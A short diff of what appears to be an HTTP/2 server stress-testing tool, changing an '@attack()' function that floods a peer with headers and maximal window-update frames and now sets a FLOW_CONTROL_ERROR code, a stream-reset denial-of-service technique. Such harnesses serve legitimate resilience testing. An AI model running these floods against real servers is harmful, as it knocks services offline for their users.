@@ -125,7 +125,8 @@ def rapid_reset_of_stubborn_handlers(server):
 @attack()
 def made_you_reset_by_window_overflow(server):
     peer = server.peer()
-    return flood(peer, (peer.headers(s) + window_update(s, 0x7FFFFFFF) for s in streams()))
+    return flood(peer, (peer.headers(s) + window_update(s, 0x7FFFFFFF) for s in streams()),
+                 code=FLOW_CONTROL_ERROR)
 
 
 @attack()
